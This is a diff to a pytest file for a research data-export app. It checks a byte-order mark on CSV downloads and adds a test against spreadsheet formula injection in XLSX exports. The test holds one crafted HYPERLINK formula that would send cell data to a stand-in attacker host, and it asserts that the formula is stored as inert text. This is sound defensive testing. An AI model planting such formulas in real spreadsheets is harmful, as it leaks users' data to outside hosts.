@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import io
 import xml.etree.ElementTree as ET
+import zipfile
 
 import pytest
 from openpyxl import load_workbook
@@ -24,7 +25,9 @@ def researcher(client, login, app, make_federation):
 
 def rows_of(response) -> list[dict[str, str]]:
     assert response.status_code == 200 and response.mimetype == "text/csv"
-    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    body = response.get_data().decode("utf-8")
+    assert body.startswith("\ufeff")  # as every CSV download: Excel then reads accents right
+    return list(csv.DictReader(io.StringIO(body[1:])))
 
 
 def optional(text: str) -> float | None:
@@ -125,3 +128,18 @@ def test_page_links_to_every_download_with_the_same_selection(researcher):
                  "horizons.csv", "horizons.xlsx", "competing.csv"):
         assert f"/research/{path}?{selection}" in html, path
     assert "/api/v1/survival?as_of=2025-12-31&amp;group_by=transfer_type&amp;country=FR" in html
+
+
+def test_a_crafted_link_puts_no_formula_into_a_spreadsheet(researcher):
+    """A filter value is the link's text: in the XLSX's About sheet it must stay text, never run."""
+    crafted = '=HYPERLINK("http://evil.example/?"&A1)'
+    response = researcher.get("/research/horizons.xlsx", query_string={"as_of": "2025-12-31",
+                                                                       "where": f"region={crafted}"})
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.get_data()))
+    cells = [c for row in book["About"].iter_rows() for c in row if isinstance(c.value, str)]
+    hostile = [c for c in cells if c.value.upper().startswith("=HYPERLINK")]
+    assert hostile and all(c.data_type == "s" and c.quotePrefix for c in hostile)
+    with zipfile.ZipFile(io.BytesIO(response.get_data())) as archive:
+        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
+    assert "<f>" not in xml  # no formula anywhere
